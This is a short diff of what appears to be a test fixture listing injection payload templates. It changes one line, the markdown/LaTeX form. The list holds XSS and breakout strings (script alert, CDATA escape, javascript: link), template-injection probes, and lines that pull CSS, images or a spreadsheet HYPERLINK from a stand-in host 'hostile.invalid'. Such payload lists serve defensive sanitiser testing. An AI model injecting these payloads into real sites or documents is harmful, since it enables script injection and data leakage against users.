@@ -35,7 +35,7 @@ FORMS = (
     "<style>@import '//hostile.invalid/{}.css';</style>",
     "]]><script>alert('{}')</script><![CDATA[",
     "{{{{7*7}}}} {{% raw %}} ${{7*7}} {}",
-    "$\\alert{{}}$ **{}** [a](javascript:alert(1))",
+    "$alert{{}}$ **{}** [a](javascript:alert(1))",
     "`{}` ![x](//hostile.invalid/a.png)",
     "&lt;b&gt;{}&amp;amp;",
     '=HYPERLINK("//hostile.invalid/{}","x")',
